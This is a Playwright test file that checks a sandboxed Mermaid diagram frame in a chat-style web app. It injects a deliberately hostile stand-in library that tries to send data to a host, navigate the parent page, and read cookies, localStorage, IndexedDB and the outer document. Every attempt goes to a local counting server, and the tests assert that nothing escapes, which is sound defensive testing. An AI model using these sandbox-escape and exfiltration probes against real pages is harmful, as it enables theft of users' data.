// Diagrams are drawn in a frame with its own origin. In these tests, a hostile or broken library takes the place of the real one in
// the real frame: whatever a diagram makes the library do, it gets no further.

import type { Page } from "@playwright/test";
import { answerWith } from "./support/answers";
import { startCounter } from "./support/counter";
import { expect, test } from "./support/fixtures";

const DIAGRAM = "```mermaid\ngraph TD; A[Kettle]-->B[Cup];\n```";

const replaceLibrary = (page: Page, body: string) =>
  page.route("**/mermaid.js", (route) => route.fulfill({ contentType: "text/javascript", body }));

/** Attempts to reach the network at HOST. Each throws, or its effect is seen by the counting server. */
const networkAttempts = {
  fetch: `await fetch("http://HOST/fetch", { mode: "no-cors" })`,
  XMLHttpRequest: `await new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open("GET", "http://HOST/xhr"); x.onload = done; x.onerror = fail; x.send(); })`,
  WebSocket: `await new Promise((done, fail) => { const s = new WebSocket("ws://HOST/socket"); s.onopen = done; s.onerror = fail; })`,
  EventSource: `await new Promise((done, fail) => { const s = new EventSource("http://HOST/events"); s.onopen = done; s.onerror = fail; })`,
  "import()": `await import("http://HOST/module.js")`,
  RTCPeerConnection: `new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] })`,
  webkitRTCPeerConnection: `new webkitRTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] })`,
  FontFace: `await new FontFace("x", "url(http://HOST/font)").load()`,
  image: `await loaded(Object.assign(document.createElement("img"), { src: "http://HOST/image.png" }))`,
  script: `await loaded(Object.assign(document.createElement("script"), { src: "http://HOST/script.js" }))`,
  style: `await loaded(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "http://HOST/style.css" }))`,
  worker: `await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = done; w.onerror = fail; })`,
};

/** Attempts that fail without a word, so that only the counting server tells. */
const silentAttempts = `
  navigator.sendBeacon("http://HOST/beacon", "x");
  open("http://HOST/window");
  document.body.insertAdjacentHTML("beforeend", \`
    <object data="http://HOST/object"></object><embed src="http://HOST/embed"><video src="http://HOST/video" autoplay></video>
    <link rel="prefetch" href="http://HOST/prefetch"><link rel="preconnect" href="http://HOST"><form action="http://HOST/form"></form>
    <svg><image href="http://HOST/svg"/></svg><p style="background: url(http://HOST/css)">x</p>\`);
  document.forms[0].submit();
  for (const window of [parent, top]) try { window.location.href = "http://HOST/above"; } catch {}`;

/** The frame's own navigations. Chromium connects to the host before it applies the policy, but sends nothing. */
const navigations = `
  document.body.insertAdjacentHTML("beforeend", '<iframe src="http://HOST/frame"></iframe><meta http-equiv="refresh" content="0;url=http://HOST/refresh">');
  location.href = "http://HOST/location";`;

const ownThings = {
  localStorage: `localStorage.getItem("abcb.config")`,
  sessionStorage: `sessionStorage.length`,
  cookies: `document.cookie`,
  databases: `await new Promise((done, fail) => { const r = indexedDB.open("abcb"); r.onsuccess = done; r.onerror = fail; })`,
  caches: `await caches.keys()`,
  files: `await navigator.storage.getDirectory()`,
  locks: `await navigator.locks.query()`,
  "the outer document": `parent.document`,
  "the page": `top.document`,
  "the page's storage": `top.localStorage`,
  eval: `eval("1")`,
  "an inline script": `
    document.body.append(Object.assign(document.createElement("script"), { textContent: "globalThis.ran = true" }));
    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.ran = true'>");
    await new Promise((done) => setTimeout(done, 100));
    if (!globalThis.ran) throw new Error("blocked")`,
};

/** A library that tries everything and reports what succeeded, as the reason why the diagram cannot be drawn. */
const hostileLibrary = (host: string) => `
  const loaded = (element) => new Promise((done, fail) => { element.onload = done; element.onerror = fail; document.body.append(element); });
  const attempts = {
    ${Object.entries({ ...networkAttempts, ...ownThings }).map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`).join(",\n")}
  };
  export async function draw() {
    const out = [];
    for (const [name, attempt] of Object.entries(attempts)) await attempt().then(() => out.push(name), () => {});
    ${silentAttempts}
    await new Promise((done) => setTimeout(done, 500));
    throw new Error("What got out: " + JSON.stringify(out));
  }`.replaceAll("HOST", host);

const tooSlow = "This diagram takes too long to draw, so it was stopped.";

const showDiagram = (page: Page) => page.getByRole("button", { name: "Show diagram" }).click();

test.describe("with another library", () => {
  // A service worker would answer in place of the route.
  test.use({ serviceWorkers: "block" });

  test("what draws diagrams reaches neither what the page keeps nor the network", async ({ page, abcb, server }) => {
    const counter = await startCounter();
    try {
      await replaceLibrary(page, hostileLibrary(counter.host));
      const body = await answerWith(DIAGRAM, abcb, server);
      await showDiagram(page);
      await expect(body.locator(".diagram")).toHaveText("This diagram cannot be drawn: What got out: []", { timeout: 15_000 });
      expect(counter.reached).toEqual([]);
      await expect(page).toHaveURL(new RegExp(`^${abcb.address}`));
      // A check that the counter works: the page itself may send requests to it.
      await page.evaluate((host) => fetch(`http://${host}/page`), counter.host);
      expect(counter.reached).toContain("GET /page");
    } finally {
      await counter.stop();
    }
  });

  test("a frame that leaves sends nothing, and the diagram is given up", async ({ page, abcb, server }) => {
    test.setTimeout(60_000);
    const counter = await startCounter();
    try {
      await replaceLibrary(page, `export function draw() { ${navigations.replaceAll("HOST", counter.host)} return new Promise(() => {}); }`);
      const body = await answerWith(DIAGRAM, abcb, server);
      await showDiagram(page);
      await expect(body.locator(".diagram")).toHaveText(tooSlow, { timeout: 25_000 });
      expect(counter.reached.filter((what) => what !== "connection")).toEqual([]);
      await expect(page.locator("iframe")).toHaveCount(0);
      await expect(page).toHaveURL(new RegExp(`^${abcb.address}`));
    } finally {
      await counter.stop();
    }
  });

  test("a diagram that hangs is given up, and the next one is drawn in a new frame", async ({ page, abcb, server }) => {
    test.setTimeout(60_000);
    await replaceLibrary(page, "export function draw() { for (;;); }");
    const body = await answerWith(DIAGRAM, abcb, server);
    await showDiagram(page);
    await expect(page.locator("iframe")).toHaveCount(1);
    // Meanwhile the page can be used.
    await abcb.input.fill("Still here.");
    await expect(body.locator(".diagram")).toHaveText(tooSlow, { timeout: 25_000 });
    await expect(page.locator("iframe")).toHaveCount(0);
    await page.unroute("**/mermaid.js");
    await showDiagram(page);
    await showDiagram(page);
    await expect(body.getByRole("img", { name: "Diagram" })).toBeVisible({ timeout: 20_000 });
  });

  test("a library that cannot be fetched is named, and fetched again at the next try", async ({ page, abcb, server }) => {
    await page.route("**/mermaid.js", (route) => route.abort());
    const body = await answerWith(DIAGRAM, abcb, server);
    await showDiagram(page);
    await expect(body.locator(".diagram")).toHaveText("What draws diagrams could not be loaded. Try again when there is a network.");
    await page.unroute("**/mermaid.js");
    await showDiagram(page);
    await showDiagram(page);
    await expect(body.getByRole("img", { name: "Diagram" })).toBeVisible({ timeout: 20_000 });
  });
});

test("diagrams share a frame, and are drawn without a network once one has been drawn", async ({ page, abcb, server }) => {
  const body = await answerWith(`${DIAGRAM}\n\n\`\`\`mermaid\npie\n"Tea": 3\n"Water": 7\n\`\`\``, abcb, server);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
  const images = body.getByRole("img", { name: "Diagram" });
  for (const [index, shown] of [1, 2].entries()) {
    await body.getByRole("button", { name: "Show diagram" }).nth(index).click();
    await expect(images).toHaveCount(shown, { timeout: 20_000 });
  }
  await expect(page.locator("iframe")).toHaveCount(1);
  await page.context().setOffline(true);
  await abcb.reload();
  await body.getByRole("button", { name: "Show diagram" }).first().click();
  await expect(images).toHaveCount(1, { timeout: 20_000 });
});
